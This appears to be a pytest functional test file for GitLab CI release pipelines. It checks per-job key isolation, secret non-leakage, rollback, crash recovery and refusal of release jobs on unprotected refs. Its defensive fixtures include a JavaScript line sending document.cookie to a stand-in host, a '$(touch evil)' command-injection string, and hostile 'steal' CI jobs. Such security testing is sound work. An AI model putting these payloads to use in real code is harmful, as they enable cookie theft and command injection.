"""The GitLab templates at work: whole pipelines on the embedded AWS, each job with its own key and no other."""

import re
import threading
from collections.abc import Iterator

import pytest

from tests.fakes.ci_local import SOURCE, Pipeline, ci_yaml, kill
from tests.fakes.faulty_s3 import FORWARD, HANG, Answer, FaultyS3, Request
from tests.fakes.gitlab_project import JOB_TOKEN, NUMBER, Project
from tests.fakes.npm_packages import installed
from tests.fakes.web_server import serving
from tests.functional.gitlab_team import Team, team_with

pytestmark = [pytest.mark.gitlab, pytest.mark.xdist_group("gitlab")]

RELEASE = ("build", "check", "publish", "record", "authorize", "promote", "invalidate", "verify", "outcome")
ROLLBACK = ("record", "promote", "invalidate", "verify", "outcome")
KEY_OF = {"build": "", "check": "", "verify": "", "authorize": "record", "outcome": "record"}
CLICK = "release:promote"


@pytest.fixture(scope="module")
def team(tmp_path_factory: pytest.TempPathFactory, pytestconfig: pytest.Config) -> Iterator[Team]:
    assert pytestconfig.cache is not None
    program = installed(SOURCE, pytestconfig.cache.mkdir("gitlab-ci-local"))
    with team_with(program, tmp_path_factory.mktemp("gitlab")) as made:
        yield made


def jobs(kind: str, *names: str) -> list[str]:
    return [f"{kind}:{name}" for name in names]


def test_a_tag_is_a_release_in_which_each_job_has_its_own_key_and_no_other(team: Team) -> None:
    version = team.tag()
    pipeline = team.pipeline(version)
    ended = pipeline.run(manual=CLICK)
    assert ended.code == 0, ended.output
    assert pipeline.ran == set(jobs("release", *RELEASE))
    assert team.serves() == version
    for name in RELEASE:
        seen = pipeline.environment(f"release:{name}")
        held = [stage for stage, secrets in team.secrets.items() if secrets & set(seen.values())]
        stage = KEY_OF.get(name, name)
        assert held == ([stage] if stage else []), name
        assert ("RELEASE_LOG_KEY_FILE" in seen) == (stage == "record"), name
    left = pipeline.artifacts
    assert left
    for secret in set().union(*team.secrets.values()):
        assert secret not in ended.output
        assert secret.encode() not in left


@pytest.mark.parametrize(
    ("source", "stops", "said"),
    [
        ("", "build", "FAIL 6"),
        ("fetch('https://collect.example.net/' + document.cookie);", "check", "FAIL 18"),
    ],
    ids=["empty", "sends where nobody authorised it"],
)
def test_a_bundle_that_is_rejected_is_not_published(team: Team, source: str, stops: str, said: str) -> None:
    version = team.tag(source)
    before = team.logged()
    pipeline = team.pipeline(version)
    ended = pipeline.run(manual=CLICK)
    assert ended.code != 0
    assert said in ended.output, ended.output
    assert pipeline.ran == set(jobs("release", *RELEASE[: RELEASE.index(stops) + 1]))
    assert team.published(version) == []
    assert team.logged() == before


def test_the_same_pipeline_comes_as_a_component_of_the_catalog(team: Team) -> None:
    team.library.write(".gitlab-ci.yml", ci_yaml(component=True, promote="on_success"))
    version = team.tag()
    team.library.write(".gitlab-ci.yml", ci_yaml())
    team.library.commit("ci: include the project again")
    pipeline = team.pipeline(version)
    ended = pipeline.run()
    assert ended.code == 0, ended.output
    assert pipeline.ran == set(jobs("release", *RELEASE))
    assert team.serves() == version, "and without a click, as its input says"


class Stuck(FaultyS3):
    """An AWS that does not answer the second write, and does it or not."""

    def __init__(self, upstream: str, *, done: bool) -> None:
        super().__init__(otherwise=FORWARD, upstream=upstream)
        self.done = done
        self.writes = 0
        self.stuck = threading.Event()

    def next_answer(self, request: Request) -> Answer:
        if request.method in {"PUT", "POST"}:
            self.writes += 1
            if self.writes == 2:
                if self.done:
                    super().next_answer(request)
                self._script = [HANG]
                self.stuck.set()
        return super().next_answer(request)


def killed_in(pipeline: Pipeline, job: str, team: Team, *, done: bool) -> None:
    with Stuck(team.account.aws.endpoint, done=done) as aws:
        started = pipeline.start(job, AWS_ENDPOINT_URL=aws.url)
        assert aws.stuck.wait(60), job
        kill(started)


def test_each_keyed_job_is_killed_at_its_second_write_and_run_again_and_the_release_goes_on(team: Team) -> None:
    version = team.tag()
    pipeline = team.pipeline(version)
    assert pipeline.run("release:build").code == 0
    for job in ("publish", "record", "authorize", "promote", "invalidate", "outcome"):
        killed_in(pipeline, f"release:{job}", team, done=job in {"publish", "authorize", "invalidate"})
        names = jobs("release", job, "verify") if job == "invalidate" else jobs("release", job)
        ended = pipeline.run(*names)
        assert ended.code == 0, ended.output
    assert team.serves() == version
    assert [entry for entry in team.logged() if entry[1] == version] == [
        ("publish.completed", version, None),
        *(("promote.authorized", version, channel) for channel in ("v1", "latest")),
        *(("promote.completed", version, channel) for channel in ("v1", "latest")),
    ]


def test_a_rollback_is_started_with_variables_and_builds_nothing(team: Team) -> None:
    good, bad = team.released(), team.released()
    asked = {"CI_PIPELINE_SOURCE": "api", "ROLLBACK_CHANNEL": "latest"}
    reason = "breaks $(touch evil) 'checkout'"
    pipeline = team.pipeline(bad, **asked, ROLLBACK_REASON=reason, ROLLBACK_TO=good)
    ended = pipeline.run()
    assert ended.code == 0, ended.output
    assert pipeline.ran == set(jobs("rollback", *ROLLBACK))
    assert (team.serves("latest"), team.serves("v1")) == (good, bad)
    assert team.logged()[-2:] == [
        ("rollback.authorized", good, "latest"),
        ("rollback.completed", good, "latest"),
    ]
    (deploys,) = [line for line in ended.output.splitlines() if line.startswith("rollback:promote environment:")]
    assert "release/promote" in deploys
    assert not list(pipeline.clone.rglob("evil"))


def test_of_two_tags_the_older_one_waits_for_its_click_and_is_refused_once_the_newer_one_is_served(team: Team) -> None:
    older = team.tag()
    pipeline = team.pipeline(older)
    ended = pipeline.run(*jobs("release", "build", "check", "publish", "record", "authorize"))
    assert ended.code == 0, ended.output
    assert team.published(older) == ["manifest.json", "tag.min.js"]
    assert team.serves() != older
    newer = team.released()
    for job, code in (("promote", 12), ("authorize", 5)):
        ended = pipeline.run(f"release:{job}")
        assert f"FAIL {code}" in ended.output, ended.output
        assert team.serves() == newer


def test_of_two_tags_at_once_the_newer_one_is_served_and_no_job_ends_unclear(team: Team) -> None:
    older, newer = team.tag(), team.tag()
    running = [team.pipeline(version).start(manual=CLICK) for version in (older, newer)]
    first, second = [process.communicate(timeout=240)[0] for process in running]
    assert running[1].returncode == 0, second
    assert team.serves() == newer
    ended = set(re.findall(r"FAIL (\d+)", first))
    assert ended <= {"5", "12"}, first
    assert running[0].returncode == (1 if ended else 0)


HOSTILE = {
    "steal": {"extends": ".release:publish", "rules": [{"when": "always"}], "needs": [], "dependencies": []},
    "steal:bare": {
        "script": ["release status"],
        "environment": {"name": "release/record", "action": "access"},
    },
}


@pytest.mark.parametrize(
    "ref",
    [
        {"CI_COMMIT_BRANCH": "feature", "CI_PIPELINE_SOURCE": "push"},
        {"CI_MERGE_REQUEST_IID": "7", "CI_PIPELINE_SOURCE": "merge_request_event"},
        {"CI_COMMIT_TAG": "v9.9.9", "CI_PIPELINE_SOURCE": "push"},
    ],
    ids=["branch", "merge request of a fork", "unprotected tag"],
)
def test_elsewhere_no_job_of_a_release_runs_even_if_its_author_wants_it_and_the_keys_are_not_protected(
    team: Team, ref: dict[str, str]
) -> None:
    pipeline = team.elsewhere(HOSTILE, **ref, CI_COMMIT_REF_PROTECTED="false")
    ended = pipeline.run()
    assert ended.code != 0
    assert pipeline.ran == set()
    refused = [line for line in ended.output.splitlines() if "FAIL 8" in line]
    assert sorted(line.split()[0] for line in refused) == ["steal", "steal:bare"], ended.output


def test_a_version_is_shown_as_a_gitlab_release_by_a_job_that_has_no_key(team: Team) -> None:
    version = team.announced_tag()
    with serving(Project()) as gitlab:
        gitlab.tags[f"v{version}"] = team.library.git("rev-parse", f"v{version}").strip()
        api = {"CI_API_V4_URL": f"{gitlab.url}/api/v4", "CI_PROJECT_ID": NUMBER, "CI_JOB_TOKEN": JOB_TOKEN}
        pipeline = team.pipeline(version, **api)
        ended = pipeline.run(manual=CLICK)
        assert ended.code == 0, ended.output
        assert f"made the GitLab release v{version}" in ended.output
        assert pipeline.ran == set(jobs("release", *RELEASE, "announce"))
        seen = pipeline.environment("release:announce")
        assert not [stage for stage, secrets in team.secrets.items() if secrets & set(seen.values())]
        assert "RELEASE_LOG_KEY_FILE" not in seen
        assert f"/tag/{version}/tag.min.js" in gitlab.releases[f"v{version}"]["description"]
        again = pipeline.run("release:announce")
        assert "nothing to do" in again.output
        assert JOB_TOKEN not in ended.output + again.output
